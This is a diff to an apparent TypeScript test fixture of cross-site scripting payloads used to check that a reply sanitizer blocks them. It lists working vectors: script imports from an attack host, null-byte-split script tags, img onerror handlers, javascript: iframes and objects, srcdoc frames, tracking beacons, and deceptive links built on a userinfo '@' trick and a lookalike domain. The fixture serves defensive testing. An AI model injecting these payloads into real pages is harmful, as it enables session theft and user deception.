@@ -14,7 +14,8 @@ export interface ReplyAttack {
 }
 
 const away = `https://${attackHost}`;
-const run = (name: string) => `${attackMark}='${name}'`;
+/** Without `void` a script in a link would put its own value in the place of the page, and the mark would be gone. */
+const run = (name: string) => `void(${attackMark}='${name}')`;
 
 /** Attacks by scripts and handlers: each gets its own name, so that a failing test can tell which one ran. */
 const scripts: Record<string, (js: string, name: string) => string> = {
@@ -27,7 +28,7 @@ const scripts: Record<string, (js: string, name: string) => string> = {
   'script-module': (_, name) => `<script type="module">import '${away}/${name}.js'</script>`,
   'script-null-letter': (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`,
   'picture-error': (js) => `<img src=x onerror="${js}">`,
-  'picture-error-unquoted': (js) => `<img/src=x/onerror=${js}>`,
+  'picture-error-unquoted': (js) => `<img/src="x"/onerror=${js}>`,
   'picture-error-backtick': (js) => `<img src=\`x\` onerror=\`${js}\`>`,
   'picture-misspelt': (js) => `<image src=x onerror="${js}">`,
   'picture-beacon': (_, name) => `<img src="${away}/${name}.png" width=1 height=1>`,
@@ -67,7 +68,7 @@ const scripts: Record<string, (js: string, name: string) => string> = {
   'link-with-name': () => `<a href="https://www.youtube.com@${attackHost}/">www.youtube.com</a>`,
   'link-lookalike': () => `<a href="https://www.уoutube.com/">www.youtube.com</a>`,
   frame: (js) => `<iframe src="javascript:${js}"></iframe>`,
-  'frame-document': (js) => `<iframe srcdoc="<script>parent.${js};${js}</script>"></iframe>`,
+  'frame-document': (js, name) => `<iframe srcdoc="<script>parent.${attackMark}='${name}';${js}</script>"></iframe>`,
   'frame-elsewhere': (_, name) =>
     `<iframe src="${away}/${name}"></iframe><frameset><frame src="${away}/${name}"></frameset>`,
   object: (js) => `<object data="javascript:${js}"></object><embed src="javascript:${js}">`,
